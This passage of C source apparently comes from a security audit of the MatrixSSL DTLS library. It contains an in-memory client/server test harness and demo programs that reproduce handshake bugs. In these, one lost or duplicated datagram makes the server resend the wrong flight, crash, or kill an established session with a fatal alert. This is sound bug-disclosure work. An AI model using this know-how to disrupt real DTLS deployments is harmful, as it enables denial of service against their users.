    ep_t C, S;
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;
    uint16_t suite = 0x009C;
    uint32 ver = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    int bad = 0, i, before, steps = 0, old = -1;

    setvbuf(stdout, NULL, _IONBF, 0);
    matrixSslOpen();
    matrixDtlsSetPmtu(1400);
    ck = load_keys(suite, 0);
    sk = load_keys(suite, 1);
    matrixSslNewSessionId(&sid, NULL);

    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, sid, 0);
    bad |= lose_last_flight(&C, &S, &S, "full handshake");

    /* idle peers + one duplicate of the server's ServerHello flight */
    for (i = 0; i < g_nall; i++)
    {
        if (g_all[i].from == 1 && g_all[i].data[0] == 22 &&
            g_all[i].data[13] == SSL_HS_SERVER_HELLO)
        {
            old = i;
        }
    }
    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, NULL, 0);
    g_qn = 0;
    {
        int ids[64], n = ep_flush(&C, ids, 64);
        for (i = 0; i < n; i++)
        {
            g_q[g_qn++] = ids[i];
        }
        fair_run(&C, &S, 5, 1000);
        for (i = 0; i < g_nall; i++)
        {
            if (i > old && g_all[i].from == 1 && g_all[i].data[0] == 22 &&
                g_all[i].data[13] == SSL_HS_SERVER_HELLO)
            {
                old = i;
            }
        }
    }
    before = g_nall;
    g_qn = 0;
    g_q[g_qn++] = old;
    while (g_qn > 0 && steps < 3000)
    {
        int id = g_q[0];
        memmove(&g_q[0], &g_q[1], (g_qn - 1) * sizeof(int));
        g_qn--;
        q_deliver(&C, &S, id);
        steps++;
    }
    printf("idle session, one duplicated old datagram: %d datagrams were "
        "sent in reaction\n", g_nall - before);
    if (steps >= 3000 || !exchange_check(&C, &S, "idle"))
    {
        printf("VIOLATION: endless CCS/Finished ping-pong (stopped after %d "
            "deliveries)\n", steps);
        bad = 1;
    }
    else
    {
        printf("OK: no ping-pong, data flows\n");
    }

    /* resumed handshake: the client's CCS/Finished is the last flight */
    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, sid, 0);
    bad |= lose_last_flight(&C, &S, &C, "resumed handshake");
    if (!(S.ssl->flags & SSL_FLAGS_RESUMED))
    {
        printf("(note: second handshake was not resumed)\n");
        bad = 1;
    }
    return bad;
}
