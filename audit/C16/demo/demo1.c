/* C16 demo 1: a server in a FULL DTLS handshake that has the client's
   ClientKeyExchange (+ChangeCipherSpec) but not yet its Finished "retransmits"
   on timeout the flight of a RESUMED handshake (ServerHello+CCS+Finished)
   instead of its real last flight, switches its write cipher/epoch, corrupts
   its transcript, and the handshake can never complete afterwards even on a
   perfect network.

   Loss pattern: exactly ONE datagram is lost (the one carrying the client's
   Finished); path MTU 300 makes the client's last flight span two datagrams
   ([ClientKeyExchange, ChangeCipherSpec] and [Finished]). */
#include "common.h"
#include <signal.h>
#include <unistd.h>
#include <sys/wait.h>

static void on_segv(int sig)
{
    static const char msg[] =
        "VIOLATION: the library crashed (SIGSEGV: call through a NULL "
        "cipher function pointer in encryptRecord) when the server was asked "
        "for its next retransmission (matrixDtlsGetOutdata after a timeout or "
        "after a duplicate record returned MATRIXSSL_REQUEST_SEND)\n";
    if (write(1, msg, sizeof(msg) - 1) < 0) { }
    _exit(1);
}

static int scenario(int variant)
{
    ep_t C, S;
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;
    uint16_t suite = 0x002F; /* TLS_RSA_WITH_AES_128_CBC_SHA */
    uint32 ver = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    int ids[64], n, i, lastFlight[64], nLast, rounds;
    int hsStateBefore, writeSecureBefore, epochBefore;

    signal(SIGSEGV, on_segv);
    matrixSslOpen();
    matrixDtlsSetPmtu(300);
    ck = load_keys(suite, 0);
    sk = load_keys(suite, 1);
    matrixSslNewSessionId(&sid, NULL);
    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, sid, 0);

    /* 1. loss-free, in-order exchange up to the client's last flight */
    n = ep_flush(&C, ids, 64);                   /* ClientHello */
    for (;; )
    {
        int from = g_all[ids[0]].from, m = 0, out[64];
        ep_t *dst = from ? &C : &S;
        int32 rc = 0;
        for (i = 0; i < n; i++)
        {
            rc = ep_deliver(dst, &g_all[ids[i]]);
        }
        if (rc != MATRIXSSL_REQUEST_SEND)
        {
            printf("unexpected rc %d in prefix\n", rc);
            return 2;
        }
        m = ep_flush(dst, out, 64);
        memcpy(ids, out, m * sizeof(int));
        n = m;
        if (dst == &C && C.ssl->hsState == SSL_HS_FINISHED)
        {
            break; /* ids[] now holds the client's CKE/CCS/Finished flight */
        }
    }
    nLast = n;
    memcpy(lastFlight, ids, n * sizeof(int));
    printf("client's last flight is %d datagrams:\n", nLast);
    for (i = 0; i < nLast; i++)
    {
        printf(" datagram #%d (%d bytes)\n", lastFlight[i], g_all[lastFlight[i]].len);
        dump_dgram("  ", &g_all[lastFlight[i]]);
    }
    if (nLast != 2)
    {
        printf("expected the flight to span 2 datagrams\n");
        return 2;
    }

    /* 2. first datagram [CKE, CCS] arrives */
    ep_deliver(&S, &g_all[lastFlight[0]]);
    hsStateBefore = S.ssl->hsState;
    writeSecureBefore = !!(S.ssl->flags & SSL_FLAGS_WRITE_SECURE);
    epochBefore = (S.ssl->epoch[0] << 8) | S.ssl->epoch[1];
    printf("server after [CKE,CCS]: hsState=%d (SSL_HS_FINISHED=%d) resumed=%d "
        "writeSecure=%d writeEpoch=%d\n", hsStateBefore, SSL_HS_FINISHED,
        !!(S.ssl->flags & SSL_FLAGS_RESUMED), writeSecureBefore, epochBefore);

    if (variant == 0)
    {
        /* 3a. the second datagram [Finished] is LOST and the retransmission
           timer of the server fires */
        printf("[Finished] datagram lost; server retransmission timer fires\n");
        n = ep_flush(&S, ids, 64);
    }
    else
    {
        /* 3b. NOTHING is lost: the network only duplicates the [CKE,CCS]
           datagram, the copy arrives before [Finished] */
        int32 rc = ep_deliver(&S, &g_all[lastFlight[0]]);
        printf("duplicate of [CKE,CCS] delivered: matrixSslReceivedData -> %d "
            "(MATRIXSSL_REQUEST_SEND=%d)\n", rc, MATRIXSSL_REQUEST_SEND);
        n = ep_flush(&S, ids, 64);
    }
    printf("server produced %d datagram(s):\n", n);
    for (i = 0; i < n; i++)
    {
        dump_dgram("  ", &g_all[ids[i]]);
    }
    printf("server afterwards: hsState=%d writeSecure=%d writeEpoch=%d\n",
        S.ssl->hsState, !!(S.ssl->flags & SSL_FLAGS_WRITE_SECURE),
        (S.ssl->epoch[0] << 8) | S.ssl->epoch[1]);
    if (n > 0 && g_all[ids[0]].data[0] == 22 && g_all[ids[0]].data[13] == 2)
    {
        printf("  -> a ServerHello in the middle of a full handshake: this is "
            "the flight of a RESUMED handshake\n");
    }
    for (i = 0; i < n; i++)
    {
        g_q[g_qn++] = ids[i];
    }
    if (variant == 1)
    {
        /* the original [Finished] datagram arrives now, in order */
        g_q[g_qn++] = lastFlight[1];
    }

    /* 4. from here on the network is perfect: in order, nothing lost,
          both retransmission timers running */
    rounds = fair_run(&C, &S, 12, 4000);
    printf("after perfect-network phase: rounds=%d client hsComplete=%d "
        "server hsComplete=%d\n  client: fatal=%d alertSent=%d alertRecvd=%d "
        "desc=%d\n  server: fatal=%d alertSent=%d alertRecvd=%d desc=%d\n",
        rounds, C.hsComplete, S.hsComplete,
        C.fatal, C.alertSent, C.alertRecvd, C.alertDesc,
        S.fatal, S.alertSent, S.alertRecvd, S.alertDesc);
    if (rounds < 0 || !C.hsComplete || !S.hsComplete)
    {
        printf("VIOLATION: variant %d: the server in a full handshake resent a "
            "resumed-handshake flight (ServerHello/CCS/Finished), and the "
            "handshake never completes on a loss-free network afterwards "
            "(%d datagrams exchanged)\n", variant, g_nall);
        return 1;
    }
    if (!exchange_check(&C, &S, "demo1"))
    {
        printf("VIOLATION: variant %d: handshake completed but application "
            "data does not flow\n", variant);
        return 1;
    }
    printf("OK: variant %d: handshake completed after %d timeout round(s), "
        "application data delivered once each way\n", variant, rounds);
    return 0;
}

int main(int argc, char **argv)
{
    int mode, bad = 0;

    if (argc > 1 && !strcmp(argv[1], "-v"))
    {
        g_verbose = 1;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    for (mode = 0; mode < 2; mode++)
    {
        pid_t pid;
        int st = 0;
        printf("\n===== variant %d: %s =====\n", mode,
            mode ? "no loss at all, one duplicated datagram" :
            "one lost datagram + server retransmission timeout");
        pid = fork();
        if (pid == 0)
        {
            _exit(scenario(mode));
        }
        waitpid(pid, &st, 0);
        if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        {
            bad = 1;
        }
    }
    return bad;
}
