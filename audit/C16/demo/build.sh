#!/bin/sh
# Builds all demos against the static libraries of the worktree.
set -e
cd "$(dirname "$0")"
TOP=../..
INC="-I$TOP -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl"
DEF="-DUSE_CL_PKCS -DUSE_CL_CERTLIB"
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for f in demo*.c fuzz.c; do
  [ -f "$f" ] || continue
  o=${f%.c}
  cc -O1 -g -Wall -Wno-unused-function -Wno-stringop-overread $INC $DEF -o $o $f $LIBS
done
