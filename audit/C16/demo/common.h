/* Shared in-memory DTLS harness for the C16 audit demos.
   Two real MatrixSSL sessions (client, server) connected through an
   in-memory datagram network that never forges: every datagram handed to a
   peer is a byte-exact copy of a datagram the other peer produced with
   matrixDtlsGetOutdata(). */
#ifndef _POSIX_C_SOURCE
# define _POSIX_C_SOURCE 200112L
#endif
#include "matrixssl/matrixsslImpl.h"
#include <stdlib.h>
#include <stdio.h>
#include <string.h>

#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_CA.h"
#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_CA.h"
#include "testkeys/PSK/psk.h"

#define MAXDG 65536
typedef struct
{
    unsigned char *data;
    int len;
    int from;      /* 0 = client, 1 = server */
    int id;
} dgram_t;

typedef struct
{
    ssl_t *ssl;
    sslKeys_t *keys;
    int isServer;
    int hsComplete;      /* number of MATRIXSSL_HANDSHAKE_COMPLETE indications */
    int fatal;           /* API returned < 0 */
    int fatalRc;
    int alertSent;       /* a fatal alert was queued by this side */
    int alertRecvd;
    int alertDesc;
    /* application data delivered to the application */
    unsigned char app[512][64];
    int appLen[512];
    int napp;
} ep_t;

static dgram_t g_all[MAXDG];   /* every datagram ever sent, in send order */
static int g_nall;
static int g_verbose;

static const char *epname(ep_t *e)
{
    return e->isServer ? "server" : "client";
}

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    return 0; /* accept: the chain itself is still validated by the library */
}

/* Pull every pending datagram out of the endpoint (also what a timeout
   does: when nothing is pending the library rebuilds the last flight).
   Returns the number of datagrams produced; ids are appended to out[]. */
static int ep_flush(ep_t *e, int *out, int maxout)
{
    unsigned char *buf;
    int32 len, rc;
    int n = 0;

    while ((len = matrixDtlsGetOutdata(e->ssl, &buf)) > 0)
    {
        dgram_t *d;
        if (g_nall >= MAXDG)
        {
            fprintf(stderr, "too many datagrams\n");
            exit(2);
        }
        d = &g_all[g_nall];
        d->data = malloc(len);
        memcpy(d->data, buf, len);
        d->len = len;
        d->from = e->isServer;
        d->id = g_nall;
        if (g_verbose)
        {
            printf("  [%s sends dgram #%d len %d: type %d epoch %d seq %d]\n",
                epname(e), d->id, len, buf[0], buf[4], buf[10]);
        }
        if (n < maxout)
        {
            out[n] = g_nall;
        }
        n++;
        g_nall++;
        rc = matrixDtlsSentData(e->ssl, len);
        if (rc < 0)
        {
            e->fatal = 1; e->fatalRc = rc;
            break;
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            e->hsComplete++;
        }
        if (rc == MATRIXSSL_REQUEST_CLOSE)
        {
            break;
        }
    }
    if (len < 0 && g_verbose)
    {
        printf("  [%s matrixDtlsGetOutdata -> %d]\n", epname(e), len);
    }
    return n;
}

/* Hand one datagram to an endpoint and run the receive state machine the way
   apps/dtls does.  Returns the first matrixSslReceivedData rc. */
static int32 ep_deliver(ep_t *e, dgram_t *d)
{
    unsigned char *buf;
    uint32 len;
    int32 rc, first;

    rc = matrixSslGetReadbufOfSize(e->ssl, d->len, &buf);
    if (rc < d->len)
    {
        fprintf(stderr, "readbuf too small %d < %d\n", rc, d->len);
        exit(2);
    }
    memcpy(buf, d->data, d->len);
    first = rc = matrixSslReceivedData(e->ssl, d->len, &buf, &len);
    if (g_verbose)
    {
        printf("  [%s receives dgram #%d -> rc %d]\n", epname(e), d->id, rc);
    }
    for (;; )
    {
        if (rc < 0)
        {
            e->fatal = 1; e->fatalRc = rc;
            return first;
        }
        switch (rc)
        {
        case MATRIXSSL_HANDSHAKE_COMPLETE:
            e->hsComplete++;
            return first;
        case MATRIXSSL_APP_DATA:
            if (e->napp < 512)
            {
                int l = len > 64 ? 64 : (int) len;
                memcpy(e->app[e->napp], buf, l);
                e->appLen[e->napp] = l;
                e->napp++;
            }
            if (g_verbose)
            {
                printf("  [%s APP DATA delivered: \"%.*s\"]\n", epname(e),
                    (int) len, buf);
            }
            rc = matrixSslProcessedData(e->ssl, &buf, &len);
            if (rc == 0)
            {
                return first;
            }
            continue;
        case MATRIXSSL_RECEIVED_ALERT:
            e->alertRecvd = 1;
            e->alertDesc = buf[1];
            if (g_verbose)
            {
                printf("  [%s RECEIVED ALERT level %d desc %d]\n", epname(e),
                    buf[0], buf[1]);
            }
            rc = matrixSslProcessedData(e->ssl, &buf, &len);
            if (rc == 0)
            {
                return first;
            }
            continue;
        case MATRIXSSL_REQUEST_SEND:
            if (e->ssl->err != SSL_ALERT_NONE)
            {
                e->alertSent = 1;
                e->alertDesc = e->ssl->err;
            }
            return first;
        case MATRIXSSL_REQUEST_RECV:
        case MATRIXSSL_SUCCESS:
        default:
            return first;
        }
    }
}

/* Queue one application record; the caller flushes. */
static int ep_app_send(ep_t *e, const char *msg)
{
    unsigned char *buf;
    int32 avail, n = (int32) strlen(msg);

    avail = matrixSslGetWritebuf(e->ssl, &buf, n);
    if (avail < n)
    {
        return -1;
    }
    memcpy(buf, msg, n);
    if (matrixSslEncodeWritebuf(e->ssl, n) < 0)
    {
        return -1;
    }
    return 0;
}

static int ep_count_app(ep_t *e, const char *msg)
{
    int i, c = 0, n = (int) strlen(msg);
    for (i = 0; i < e->napp; i++)
    {
        if (e->appLen[i] == n && memcmp(e->app[i], msg, n) == 0)
        {
            c++;
        }
    }
    return c;
}

enum { KT_RSA, KT_EC, KT_PSK };

static int suite_keytype(uint16_t suite)
{
    const sslCipherSpec_t *spec = sslGetDefinedCipherSpec(suite);
    if (spec == NULL)
    {
        fprintf(stderr, "suite %04x not compiled in\n", suite);
        exit(2);
    }
    if (spec->type == CS_PSK || spec->type == CS_DHE_PSK)
    {
        return KT_PSK;
    }
    if (spec->type == CS_ECDHE_ECDSA || spec->type == CS_ECDH_ECDSA)
    {
        return KT_EC;
    }
    return KT_RSA;
}

static sslKeys_t *load_keys(uint16_t suite, int server)
{
    sslKeys_t *keys;
    int kt = suite_keytype(suite);
    int i;

    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        exit(2);
    }
    if (kt == KT_RSA)
    {
        if (matrixSslLoadRsaKeysMem(keys, RSA2048, RSA2048_SIZE,
                RSA2048KEY, RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
        {
            fprintf(stderr, "rsa key load failed\n");
            exit(2);
        }
    }
    else if (kt == KT_EC)
    {
        if (matrixSslLoadEcKeysMem(keys, EC256, EC256_SIZE,
                EC256KEY, EC256KEY_SIZE, EC256CA, EC256CA_SIZE) < 0)
        {
            fprintf(stderr, "ec key load failed\n");
            exit(2);
        }
    }
    else
    {
        int n = server ? (int) PSK_HEADER_TABLE_COUNT : 1;
        for (i = 0; i < n; i++)
        {
            matrixSslLoadPsk(keys,
                PSK_HEADER_TABLE[i].key, sizeof(PSK_HEADER_TABLE[i].key),
                PSK_HEADER_TABLE[i].id, sizeof(PSK_HEADER_TABLE[i].id));
        }
    }
    return keys;
}

static void load_ticket_keys(sslKeys_t *keys)
{
    static const unsigned char name[16] = "c16-ticket-key-1";
    static const unsigned char sym[32] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11,
        12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28,
        29, 30, 31, 32 };
    static const unsigned char mac[32] = { 101, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11,
        12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28,
        29, 30, 31, 32 };
    if (matrixSslLoadSessionTicketKeys(keys, name, sym, 32, mac, 32) < 0)
    {
        fprintf(stderr, "ticket key load failed\n");
        exit(2);
    }
}

static void new_server(ep_t *e, sslKeys_t *keys, uint32 verFlag, int clientAuth)
{
    sslSessOpts_t opt;

    memset(e, 0, sizeof(*e));
    memset(&opt, 0, sizeof(opt));
    opt.versionFlag = verFlag;
    e->isServer = 1;
    e->keys = keys;
    if (matrixSslNewServerSession(&e->ssl, keys, clientAuth ? certCb : NULL,
            &opt) < 0)
    {
        fprintf(stderr, "new server session failed\n");
        exit(2);
    }
}

static void new_client(ep_t *e, sslKeys_t *keys, uint32 verFlag,
    uint16_t suite, sslSessionId_t *sid, int ticket)
{
    sslSessOpts_t opt;
    psCipher16_t cs = suite;

    memset(e, 0, sizeof(*e));
    memset(&opt, 0, sizeof(opt));
    opt.versionFlag = verFlag;
    opt.ticketResumption = ticket;
    e->isServer = 0;
    e->keys = keys;
    if (matrixSslNewClientSession(&e->ssl, keys, sid, &cs, 1, certCb,
            "localhost", NULL, NULL, &opt) < 0)
    {
        fprintf(stderr, "new client session failed\n");
        exit(2);
    }
}

/* ---- a well-behaved network: in-order, loss-free delivery with
   timeout-driven retransmission, run after the adversarial prefix ---- */
static int g_q[MAXDG], g_qn;
static int g_serverTimer = 1; /* 0: server retransmission timer disabled in fair_run */

static void q_push_flush(ep_t *e)
{
    int ids[512], n, i;
    n = ep_flush(e, ids, 512);
    for (i = 0; i < n && i < 512; i++)
    {
        g_q[g_qn++] = ids[i];
    }
}

/* Deliver datagram to its destination and queue whatever it answers */
static int32 q_deliver(ep_t *C, ep_t *S, int id)
{
    dgram_t *d = &g_all[id];
    ep_t *dst = d->from ? C : S;
    int32 rc = ep_deliver(dst, d);
    if (rc == MATRIXSSL_REQUEST_SEND)
    {
        q_push_flush(dst);
    }
    return rc;
}

static int ep_dead(ep_t *e)
{
    return e->fatal || e->alertSent || e->alertRecvd;
}

/* Returns number of timeout rounds used, or -1 if the handshake did not
   complete on both sides within maxRounds (or a side died). */
static int fair_run(ep_t *C, ep_t *S, int maxRounds, int maxDeliveries)
{
    int round, deliveries = 0;
    for (round = 0; round <= maxRounds; round++)
    {
        while (g_qn > 0)
        {
            int id = g_q[0];
            memmove(&g_q[0], &g_q[1], (g_qn - 1) * sizeof(int));
            g_qn--;
            if (C->hsComplete && S->hsComplete)
            {
                g_qn = 0;
                return round;
            }
            if (ep_dead(C) || ep_dead(S) || ++deliveries > maxDeliveries)
            {
                return -1;
            }
            q_deliver(C, S, id);
        }
        if (C->hsComplete && S->hsComplete)
        {
            return round;
        }
        if (ep_dead(C) || ep_dead(S))
        {
            return -1;
        }
        if (g_verbose)
        {
            printf("-- timeout round %d --\n", round);
        }
        if (!C->hsComplete)
        {
            q_push_flush(C);
        }
        if (!S->hsComplete && g_serverTimer)
        {
            q_push_flush(S);
        }
    }
    return -1;
}

static const char *rectype(int t)
{
    switch (t)
    {
    case 20: return "ChangeCipherSpec";
    case 21: return "Alert";
    case 22: return "Handshake";
    case 23: return "ApplicationData";
    }
    return "?";
}

/* Print the DTLS records of a datagram (header fields only) */
static void dump_dgram(const char *pfx, dgram_t *d)
{
    int off = 0;
    while (off + 13 <= d->len)
    {
        unsigned char *r = d->data + off;
        int epoch = (r[3] << 8) | r[4];
        int seq = (r[7] << 24) | (r[8] << 16) | (r[9] << 8) | r[10];
        int len = (r[11] << 8) | r[12];
        printf("%s  record %s epoch=%d seq=%d len=%d", pfx, rectype(r[0]),
            epoch, seq, len);
        if (r[0] == 22 && epoch == 0 && len >= 12 &&
            len == 12 + ((r[22] << 16) | (r[23] << 8) | r[24]))
        {   /* plaintext handshake record: show the handshake header */
            printf(" hsType=%d msgSeq=%d fragOff=%d fragLen=%d", r[13],
                (r[17] << 8) | r[18], (r[19] << 16) | (r[20] << 8) | r[21],
                (r[22] << 16) | (r[23] << 8) | r[24]);
        }
        printf("\n");
        off += 13 + len;
    }
}

/* After the handshake: one application record each way, each must be
   delivered exactly once.  Returns 1 when both arrive. */
static int exchange_check(ep_t *C, ep_t *S, const char *tag)
{
    char m1[64], m2[64];
    int ids[16], n, i;

    snprintf(m1, sizeof m1, "%s c->s", tag);
    snprintf(m2, sizeof m2, "%s s->c", tag);
    if (ep_app_send(C, m1) < 0)
    {
        return 0;
    }
    n = ep_flush(C, ids, 16);
    for (i = 0; i < n; i++)
    {
        ep_deliver(S, &g_all[ids[i]]);
    }
    if (ep_app_send(S, m2) < 0)
    {
        return 0;
    }
    n = ep_flush(S, ids, 16);
    for (i = 0; i < n; i++)
    {
        ep_deliver(C, &g_all[ids[i]]);
    }
    return ep_count_app(S, m1) == 1 && ep_count_app(C, m2) == 1 &&
           !ep_dead(C) && !ep_dead(S);
}
