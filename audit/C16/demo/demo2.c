/* C16 demo 2: the record-header version check runs before (and without
   regard to) the DTLS epoch / duplicate handling.  A client that offers
   DTLS 1.2 and 1.0 writes {254,253} in the record header of its ClientHello;
   a server that only supports DTLS 1.0 negotiates {254,255}.  From the moment
   the server has answered the ClientHello, any further copy of that
   ClientHello datagram -- the client's own timeout-driven retransmission
   after the server's flight was lost, or a late network duplicate -- is
   answered with a fatal illegal_parameter alert and the session is dead.

   Scenario A: one lost flight (server's ServerHello..ServerHelloDone) and a
               client retransmission timeout  -> handshake can never complete.
   Scenario B: handshake completes, data flows, then the network delivers a
               duplicate of the very first ClientHello datagram -> the
               established session is killed. */
#include "common.h"
#include <unistd.h>
#include <sys/wait.h>

static uint16_t suite = 0x002F;

static void setup(ep_t *C, ep_t *S)
{
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;

    matrixSslOpen();
    matrixDtlsSetPmtu(1400);
    ck = load_keys(suite, 0);
    sk = load_keys(suite, 1);
    matrixSslNewSessionId(&sid, NULL);
    /* server: DTLS 1.0 only; client: DTLS 1.2 and DTLS 1.0 */
    new_server(S, sk, SSL_FLAGS_TLS_1_1 | SSL_FLAGS_DTLS, 0);
    new_client(C, ck, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_TLS_1_1 | SSL_FLAGS_DTLS,
        suite, sid, 0);
}

static int scenarioA(void)
{
    ep_t C, S;
    int ids[64], n, i, rounds;

    setup(&C, &S);
    n = ep_flush(&C, ids, 64);                 /* ClientHello (no cookie)  */
    printf("ClientHello record-header version: %02x %02x\n",
        g_all[ids[0]].data[1], g_all[ids[0]].data[2]);
    ep_deliver(&S, &g_all[ids[0]]);
    n = ep_flush(&S, ids, 64);                 /* HelloVerifyRequest       */
    ep_deliver(&C, &g_all[ids[0]]);
    n = ep_flush(&C, ids, 64);                 /* ClientHello with cookie  */
    ep_deliver(&S, &g_all[ids[0]]);
    n = ep_flush(&S, ids, 64);                 /* ServerHello..Done        */
    printf("server flight: %d datagram(s), record-header version %02x %02x; "
        "this flight is LOST\n", n, g_all[ids[0]].data[1], g_all[ids[0]].data[2]);
    /* ... lost.  Client retransmission timer fires: */
    n = ep_flush(&C, ids, 64);
    printf("client timeout retransmits %d datagram(s):\n", n);
    for (i = 0; i < n; i++)
    {
        dump_dgram("  ", &g_all[ids[i]]);
        g_q[g_qn++] = ids[i];
    }
    /* perfect network from now on */
    rounds = fair_run(&C, &S, 10, 2000);
    printf("rounds=%d  client: complete=%d alertRecvd=%d desc=%d   "
        "server: complete=%d alertSent=%d desc=%d\n", rounds,
        C.hsComplete, C.alertRecvd, C.alertDesc,
        S.hsComplete, S.alertSent, S.alertDesc);
    if (rounds < 0 || !C.hsComplete || !S.hsComplete)
    {
        printf("VIOLATION: scenario A: after ONE lost flight the client's "
            "retransmitted ClientHello made the server send fatal alert %d "
            "(illegal_parameter=47); the handshake never completes\n",
            S.alertDesc);
        return 1;
    }
    if (!exchange_check(&C, &S, "demo2A"))
    {
        printf("VIOLATION: scenario A: no data flow after the handshake\n");
        return 1;
    }
    printf("OK: scenario A: handshake completed after %d timeout round(s) "
        "and data flows\n", rounds);
    return 0;
}

static int scenarioB(void)
{
    ep_t C, S;
    int ids[64], n, i, firstHello, rounds;
    int32 rc;

    setup(&C, &S);
    n = ep_flush(&C, ids, 64);
    firstHello = ids[0];
    for (i = 0; i < n; i++)
    {
        g_q[g_qn++] = ids[i];
    }
    rounds = fair_run(&C, &S, 10, 2000);
    if (rounds < 0)
    {
        printf("handshake did not complete on a perfect network?\n");
        return 2;
    }
    printf("handshake complete (negotiated minor version byte %02x)\n",
        (unsigned) psEncodeVersionMin(GET_NGTD_VER(S.ssl)) & 0xff);
    /* data in both directions */
    ep_app_send(&C, "hello from client");
    n = ep_flush(&C, ids, 64);
    for (i = 0; i < n; i++)
    {
        ep_deliver(&S, &g_all[ids[i]]);
    }
    ep_app_send(&S, "hello from server");
    n = ep_flush(&S, ids, 64);
    for (i = 0; i < n; i++)
    {
        ep_deliver(&C, &g_all[ids[i]]);
    }
    printf("app data delivered: server got %d, client got %d\n",
        ep_count_app(&S, "hello from client"),
        ep_count_app(&C, "hello from server"));
    /* the network now delivers a duplicate of the first ClientHello */
    rc = ep_deliver(&S, &g_all[firstHello]);
    printf("duplicate of ClientHello datagram #%d -> server rc=%d err=%d "
        "flags&ERROR=%d\n", firstHello, rc, S.ssl->err,
        !!(S.ssl->flags & SSL_FLAGS_ERROR));
    n = ep_flush(&S, ids, 64);
    for (i = 0; i < n; i++)
    {
        dump_dgram("  server sends:", &g_all[ids[i]]);
        ep_deliver(&C, &g_all[ids[i]]);
    }
    /* does the session still carry data? */
    ep_app_send(&C, "second message");
    n = ep_flush(&C, ids, 64);
    for (i = 0; i < n; i++)
    {
        ep_deliver(&S, &g_all[ids[i]]);
    }
    printf("after the duplicate: server got 'second message' %d time(s); "
        "client alertRecvd=%d desc=%d; server fatal rc=%d\n",
        ep_count_app(&S, "second message"), C.alertRecvd, C.alertDesc,
        S.fatalRc);
    if (S.alertSent || ep_count_app(&S, "second message") != 1)
    {
        printf("VIOLATION: scenario B: a duplicated epoch-0 ClientHello "
            "datagram delivered after the handshake killed the established "
            "session (server sent fatal alert %d)\n", S.alertDesc);
        return 1;
    }
    printf("OK: scenario B: the duplicate was ignored, the session still "
        "carries data\n");
    return 0;
}

int main(int argc, char **argv)
{
    int bad = 0, st, k;

    if (argc > 1 && !strcmp(argv[1], "-v"))
    {
        g_verbose = 1;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    for (k = 0; k < 2; k++)
    {
        pid_t pid;
        printf("\n===== scenario %c =====\n", 'A' + k);
        pid = fork();
        if (pid == 0)
        {
            _exit(k == 0 ? scenarioA() : scenarioB());
        }
        waitpid(pid, &st, 0);
        if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        {
            bad = 1;
        }
    }
    return bad;
}
