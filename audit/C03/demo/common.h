/* Shared helpers for the C03 audit demos: an in-memory TLS client/server
   pair driven through the public MatrixSSL API. */
#ifndef AUDIT_COMMON_H
#define AUDIT_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"

#ifndef CERTDIR
# define CERTDIR "certs"
#endif

static int g_trace = 0;

/* Move everything one side wants to send to the other side; returns
   1 if something moved, 0 if nothing, <0 if the receiver reported an error
   (*alertOut gets the alert description if the receiver got/produced one) */
static int pump_one(ssl_t *from, ssl_t *to, const char *dir, int *toDone,
                    int *fatal)
{
    unsigned char *out, *in, *pt;
    int32 outLen, inLen, rc;
    uint32 ptLen;
    int moved = 0;

    while ((outLen = matrixSslGetOutdata(from, &out)) > 0)
    {
        int32 off = 0;
        moved = 1;
        while (off < outLen)
        {
            int32 n;
            inLen = matrixSslGetReadbuf(to, &in);
            if (inLen <= 0)
            {
                *fatal = 1;
                return -1;
            }
            n = outLen - off;
            if (n > inLen)
            {
                n = inLen;
            }
            memcpy(in, out + off, n);
            off += n;
            rc = matrixSslReceivedData(to, n, &pt, &ptLen);
            for (;; )
            {
                if (g_trace)
                {
                    printf("  [%s] ReceivedData rc=%d\n", dir, (int) rc);
                }
                if (rc < 0)
                {
                    *fatal = 1;
                    return rc;
                }
                if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
                {
                    *toDone = 1;
                    break;
                }
                if (rc == MATRIXSSL_RECEIVED_ALERT)
                {
                    if (g_trace)
                    {
                        printf("  [%s] alert level=%d desc=%d\n", dir,
                            pt[0], pt[1]);
                    }
                    if (pt[0] == SSL_ALERT_LEVEL_FATAL)
                    {
                        *fatal = 1;
                        return -1;
                    }
                    rc = matrixSslProcessedData(to, &pt, &ptLen);
                    continue;
                }
                if (rc == MATRIXSSL_APP_DATA ||
                    rc == MATRIXSSL_APP_DATA_COMPRESSED)
                {
                    rc = matrixSslProcessedData(to, &pt, &ptLen);
                    continue;
                }
                break; /* REQUEST_SEND / REQUEST_RECV / SUCCESS */
            }
        }
        rc = matrixSslSentData(from, outLen);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
